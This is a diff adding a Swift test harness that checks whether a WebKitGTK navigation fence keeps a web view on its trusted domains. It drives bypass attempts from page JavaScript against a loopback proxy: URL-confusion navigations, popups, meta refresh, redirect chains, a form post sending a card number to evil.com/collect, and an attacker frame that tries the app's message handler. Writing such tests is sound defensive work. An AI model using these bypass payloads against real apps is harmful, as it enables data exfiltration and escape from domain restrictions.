@@ -1,0 +1,188 @@
+import AppBound
+import CWebKitGTK
+import Foundation
+import LoopbackSites
+import NavigationRules
+import WebFenceGTK
+
+/// The bypass classes of the navigation-rules spec (§1) that a page can try on its own, driven
+/// from the page's JavaScript in a real web view, under the two ways an app keeps a web view on
+/// its domains (seed 003's rules; App-Bound Domains). An attempt is caught when the engine sent
+/// nothing to the attacker (no request and no connection through the loopback proxy), the main
+/// frame did not leave the trusted site, and the attacker's frames reached no message handler.
+/// Controls (a trusted target by the same route) must get through, so that "nothing was sent" is
+/// evidence and not a harness that sends nothing.
+@MainActor
+public enum BypassAttempts {
+    static let trusted = "example.com"
+    static let attacker = "evil.com"
+
+    /// One page-driven attempt.
+    struct Attack {
+        let name: String
+        /// The trusted page the attempt starts on.
+        var start = "https://example.com/"
+        /// The page's own script, run once the start page has loaded.
+        var script: String?
+        /// A control: a trusted target that must get through.
+        var isControl = false
+        /// The attacker's document is allowed to display (a non-app-bound subframe under
+        /// App-Bound Domains), so traffic to it is expected; its handlers must still be absent.
+        var displaysUnderAppBound = false
+    }
+
+    /// Under which policy an attempt ran, and what happened.
+    public struct Result: Sendable {
+        public let policy: String
+        public let attack: String
+        public let isControl: Bool
+        /// An attempt was caught; a control got through.
+        public let passed: Bool
+        public let evidence: String
+    }
+
+    static var attacks: [Attack] {
+        let frame = { (src: String) in
+            "document.body.appendChild(Object.assign(document.createElement('iframe'), { src: '\(src)' })); true"
+        }
+        return [
+            Attack(name: "location with a backslash", script: #"location.href = "https://evil.com\\@example.com/"; true"#),
+            Attack(name: "location with userinfo", script: #"location.href = "https://example.com@evil.com/"; true"#),
+            Attack(name: "location: suffix without a label boundary", script: #"location.href = "https://example.com.evil.com/"; true"#),
+            Attack(name: "location: percent-encoded dot", script: #"location.href = "https://evil%2Ecom/"; true"#),
+            Attack(name: "location: full-width letters", script: #"location.href = "https://\uFF45\uFF56\uFF49\uFF4C.com/"; true"#),
+            Attack(name: "location: trailing dot and case", script: #"location.href = "https://EVIL.com./"; true"#),
+            Attack(name: "window.open", script: #"window.open("https://evil.com/"); true"#),
+            Attack(
+                name: "window.open, then the window navigates",
+                script: #"const w = window.open("https://login.example.com/"); setTimeout(() => { w.location.href = "https://evil.com/"; }, 800); true"#),
+            Attack(name: "meta refresh", start: "https://example.com/meta-refresh"),
+            Attack(
+                name: "form post",
+                script: """
+                    const form = Object.assign(document.createElement('form'), { method: 'post', action: 'https://evil.com/collect' });
+                    form.appendChild(Object.assign(document.createElement('input'), { name: 'card', value: '4111' }));
+                    document.body.appendChild(form); form.submit(); true
+                    """),
+            Attack(name: "redirect chain", script: #"location.href = "https://example.com/hop"; true"#),
+            Attack(name: "iframe", script: frame("https://evil.com/frame"), displaysUnderAppBound: true),
+            Attack(name: "iframe through a redirect chain", script: frame("https://example.com/hop-frame"), displaysUnderAppBound: true),
+            Attack(name: "control: location to a subdomain", script: #"location.href = "https://login.example.com/"; true"#, isControl: true),
+            Attack(name: "control: window.open", script: #"window.open("https://login.example.com/"); true"#, isControl: true),
+            Attack(name: "control: iframe", script: frame("https://help.example.com/frame"), isControl: true),
+        ]
+    }
+
+    /// Hosts the certificate covers: every host an attempt could reach, so that an attempt the
+    /// engine let through would show in the proxy's log.
+    static let hosts = ["example.com", "login.example.com", "help.example.com", "evil.com", "example.com.evil.com", "evil.com."]
+
+    /// The attacker's pages: a frame that tries the app's message handler, directly and through a
+    /// fresh child frame of its own (whose `webkit` namespace is another realm's).
+    static func routes(_ sites: SiteTable) {
+        sites.route("https://example.com/meta-refresh", to: .html(#"<meta http-equiv="refresh" content="0;url=https://evil.com/">"#))
+        sites.route("https://example.com/hop", to: .redirect(to: "https://login.example.com/hop2"))
+        sites.route("https://login.example.com/hop2", to: .redirect(to: "https://evil.com/"))
+        sites.route("https://example.com/hop-frame", to: .redirect(to: "https://evil.com/frame"))
+        let tryHandlers = """
+            <!doctype html><p>attacker</p><script>
+            const post = (w, how) => { try { w.webkit.messageHandlers.app.postMessage("evil " + how); } catch (e) {} };
+            post(window, "directly");
+            const child = document.body.appendChild(document.createElement("iframe"));
+            post(child.contentWindow, "through a child frame");
+            </script>
+            """
+        sites.route("https://evil.com/frame", to: .html(tryHandlers))
+        sites.route("https://help.example.com/frame", to: .html(tryHandlers.replacingOccurrences(of: "evil ", with: "trusted ")))
+    }
+
+    /// The two policies: seed 003's rule set (no App-Bound Domains), and App-Bound Domains with limits.
+    static func policies() throws -> [(name: String, policy: WebFencePolicy, limits: Bool)] {
+        let rules = try NavigationRuleSet(json: #"{"version": 1, "allow": ["example.com"]}"#)
+        return [
+            ("navigation rules", WebFencePolicy(app: AppBoundApp(domains: nil), rules: rules), false),
+            ("App-Bound Domains", WebFencePolicy(app: AppBoundApp(domains: AppBoundDomains(entries: [trusted]))), true),
+        ]
+    }
+
+    public static func run(log: (String) -> Void) throws -> [Result] {
+        let ca = try RunTimeCA(hosts: hosts)
+        let sites = SiteTable(page: Pages.page(for:))
+        routes(sites)
+        let proxy = try LoopbackProxy(sites: sites, ca: ca)
+        defer { proxy.stop() }
+        var results: [Result] = []
+        for (name, policy, limits) in try policies() {
+            for attack in attacks {
+                log("\(name): \(attack.name)")
+                let session = FencedSession()
+                session.useProxy(proxy.uri)
+                _ = session.allowCertificate(ca.leafPEM, for: hosts)
+                results.append(try attempt(attack, policy: name, policy, limits: limits, session: session, sites: sites))
+            }
+        }
+        return results
+    }
+
+    private static func attempt(
+        _ attack: Attack, policy name: String, _ policy: WebFencePolicy, limits: Bool, session: FencedSession,
+        sites: SiteTable
+    ) throws -> Result {
+        let webView = FencedWebView(policy: policy, session: session, limitsNavigationsToAppBoundDomains: limits)
+        var refusals: [String] = []
+        var messages: [String] = []
+        var popups: [FencedWebView] = []
+        var finished = 0
+        webView.onNavigation = { event in
+            if case .committed = event.outcome { return }
+            refusals.append(event.url)
+        }
+        webView.onLoadFinished = { _ in finished += 1 }
+        webView.addMessageHandler("app") { messages.append($0) }
+        webkit_settings_set_javascript_can_open_windows_automatically(webkit_web_view_get_settings(webView.view), 1)
+        webView.onNewWindow = { opener in
+            let popup = opener.makePopup()
+            popup.onNavigation = { event in if case .committed = event.outcome {} else { refusals.append(event.url) } }
+            popups.append(popup)
+            return popup
+        }
+        webView.load(attack.start)
+        MainLoop.run(for: .seconds(10)) { finished > 0 }
+        let requestsBefore = sites.requests.count
+        let tunnelsBefore = sites.tunnels.count
+        if let script = attack.script {
+            var done = false
+            webView.runnerEvaluate(script) { _ in done = true }
+            MainLoop.run { done }
+        }
+        // The attempt's effects: a refusal, a load, a message; then a moment for anything late.
+        MainLoop.run(for: .seconds(3)) { !refusals.isEmpty || (attack.isControl && finished > 1) }
+        MainLoop.settle(.milliseconds(700))
+
+        let requests = Array(sites.requests.dropFirst(requestsBefore))
+        let tunnels = Array(sites.tunnels.dropFirst(tunnelsBefore))
+        let isAttacker = { (text: String) in text.lowercased().contains(attacker) }
+        let attackerTraffic = requests.filter(isAttacker) + tunnels.filter(isAttacker).map { "CONNECT " + $0 }
+        let attackerMessages = messages.filter { $0.contains("evil") }
+        let mainFrame = webView.committedURL ?? ""
+        let popupURLs = popups.compactMap(\.committedURL).filter { !$0.isEmpty && $0 != "about:blank" }
+        let left = isAttacker(mainFrame) || popupURLs.contains(where: isAttacker)
+
+        if attack.isControl {
+            let through = requests.contains { $0.contains("login.example.com") || $0.contains("help.example.com") }
+            let delivered = !attack.name.contains("iframe") || messages.contains { $0.contains("trusted directly") }
+            return Result(
+                policy: name, attack: attack.name, isControl: true, passed: through && delivered,
+                evidence: "requests \(requests), messages \(messages)")
+        }
+        let trafficExpected = attack.displaysUnderAppBound && limits
+        let caught = !left && attackerMessages.isEmpty && (trafficExpected || attackerTraffic.isEmpty)
+        var evidence: [String] = []
+        evidence.append(refusals.isEmpty ? "no refusal reported" : "WebFence refused \(refusals)")
+        evidence.append(attackerTraffic.isEmpty ? "nothing sent to \(attacker)" : "sent to \(attacker): \(attackerTraffic)")
+        if trafficExpected { evidence.append("the frame displays, not app-bound") }
+        evidence.append(attackerMessages.isEmpty ? "no message from the attacker" : "messages: \(attackerMessages)")
+        evidence.append("main frame \(mainFrame)")
+        return Result(policy: name, attack: attack.name, isControl: false, passed: caught, evidence: evidence.joined(separator: "; "))
+    }
+}
